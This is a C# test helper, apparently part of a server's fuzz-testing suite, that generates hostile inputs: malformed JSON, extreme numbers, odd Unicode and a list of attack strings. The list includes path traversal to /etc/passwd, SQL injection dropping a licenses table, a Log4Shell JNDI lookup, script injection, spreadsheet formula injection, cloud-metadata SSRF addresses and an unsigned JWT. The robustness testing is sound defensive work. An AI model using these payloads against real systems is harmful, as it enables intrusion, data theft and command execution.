using System.Text;
using System.Text.Json;

namespace Fayvad.Server.Tests.Hostile;

/// <summary>Values that programs stumble over.</summary>
internal static class BadValues
{
    private static readonly string[] Texts =
    [
        "", " ", "\t\r\n", "\0", "a\0b", "null", "undefined", "NaN", "true", "[]", "{}", "-", ".", "..", "../../../../etc/passwd", "..\\..\\x", "%", "%00", "%2f", "%u0000", "%c0%ae",
        "'", "\"", "' OR '1'='1", "'; DROP TABLE licenses; --", "\\", "*", "%%%", "_", "{0}", "{{7*7}}", "${jndi:ldap://x.test/a}", "<script>alert(1)</script>", "=cmd|' /C calc'!A0",
        "\u202Egpj.exe", "\u2066\u2069", "\uFEFFdemo", "e\u0301", "\u00E9", "\u212A", "\u017F", "\u0130", "\uFF10\uFF11", "\u200Bdemo", "\uD7FF", "\uE000", "\uFFFF", "\U0001F600", "Z\u0300\u0301\u0302\u0303\u0304",
        "0190a000-0000-7000-8000-000000000001", "00000000-0000-0000-0000-000000000000", "{0190a000-0000-7000-8000-000000000001}", "0190a0000000700080000000000000011",
        "2026-02-30", "2026-11-24T25:00:00Z", "0000-00-00", "9999-12-31T23:59:59.9999999Z", "10000-01-01", "0001-01-01T00:00:00+14:00", "2026-11-24T10:00:00", "-1-01-01", "2026-W48", "1e9999-01-01",
        "http://[::1", "https://user:pass@h.test:99999/", "file:///etc/passwd", "http://127.0.0.1/", "http://0x7f000001/", "http://169.254.169.254/", "javascript:1", "//x.test", "http://\u2100.test/",
        "a@b@c", "@", "a@b.test\r\nBcc: c@d.test", "\"a b\"@x.test", "name desc, id", "id;drop", "id asc asc", "name__ilike", "x__in", "__class__", "constructor", "[[\"id\",\"=\",1]]", "[\"&\"]", "[[\"id\",\"in\",\"x\"]]",
        "eyJhbGciOiJub25lIn0.e30.", "W10=", "*,*", "demo/../demo_free", "demo\0", "DEMO", "demo ", "postgres", "admin", "AAAA-AAAA-AAAA-AAAA-AAAA",
    ];

    private static readonly string[] Numbers =
    [
        "0", "-0", "-1", "1", "201", "2147483647", "2147483648", "-2147483649", "4294967296", "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
        "1e308", "1e309", "-1e400", "1e-400", "0.1", "0.30000000000000004", "79228162514264337593543950336", "1E+2", "123456789012345678901234567890", "1.0", "5e-324", "253402300800", "62135596800000",
    ];

    private static readonly string[] NoNumbers = ["01", "+1", "1_000", "1,5", "0x10", "\u0661", ".5", "1.", "--1", "1e", "Infinity", "-Infinity", "NaN", "1 ", " 1", "\u22121"];

    public static string Text(Random random) => random.Next(14) switch
    {
        0 => new string('a', random.Size(5_000)),
        1 => new string(random.Of('\u202E', '\u0301', '\'', '[', '(', '%', '"', ' ', '\u4E00'), random.Size(1_500)),
        2 => Unicode(random, random.Size(60)),
        3 => Digits(random),
        4 => string.Concat(Enumerable.Repeat(random.Of("(a", "a.", "a,", "a__", "..", "a|", "%25", "\\"), random.Size(400))),
        5 => Encoding.Latin1.GetString(random.Bytes(random.Size(60))),
        _ => random.Of(Texts),
    };

    public static string Digits(Random random) => random.OneIn(3) ? random.Of(NoNumbers) : random.Of(Numbers);

    /// <summary>A value in JSON, of whatever type; not always one that can be read.</summary>
    public static string Json(Random random, int depth = 0) => random.Next(depth > 2 ? 8 : 12) switch
    {
        0 => random.Of("null", "true", "false"),
        1 => random.Of(Numbers),
        2 => random.OneIn(4) ? random.Of(NoNumbers) : random.Of(Numbers),
        3 => random.Of("\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"\\x\"", "\"", "\"\t\"", "\"\\u00\"", "'x'", "//x", "tru", "-", "[1,]", "{\"a\":1,}", "{a:1}", "{\"a\"}"),
        4 => new string('9', random.Size(3_000)),
        8 => $"[{string.Join(',', Enumerable.Range(0, random.Size(8)).Select(_ => Json(random, depth + 1)))}]",
        9 => $"{{{string.Join(',', Enumerable.Range(0, random.Size(5)).Select(_ => $"{Quoted(Text(random))}:{Json(random, depth + 1)}"))}}}",
        10 => Deep(random),
        11 => $"[{string.Join(',', Enumerable.Repeat(random.Of("1", "null", "{}", "\"a\"", "[]"), random.Size(3_000)))}]",
        _ => Quoted(Text(random)),
    };

    public static string Quoted(string text) => $"\"{JsonEncodedText.Encode(text)}\"";

    private static string Deep(Random random)
    {
        var (depth, isArray) = (random.Size(2_000), random.OneIn(2));
        var open = string.Concat(Enumerable.Repeat(isArray ? "[" : "{\"a\":", depth));
        return random.OneIn(3) ? open : $"{open}1{new string(isArray ? ']' : '}', depth)}";
    }

    private static string Unicode(Random random, int length)
    {
        var text = new StringBuilder();
        while (text.Length < length)
            if (Rune.TryCreate(random.OneIn(2) ? random.Next(0x10FFFF) : random.Next(0x800), out var rune)) text.Append(rune.ToString());
        return text.ToString();
    }
}
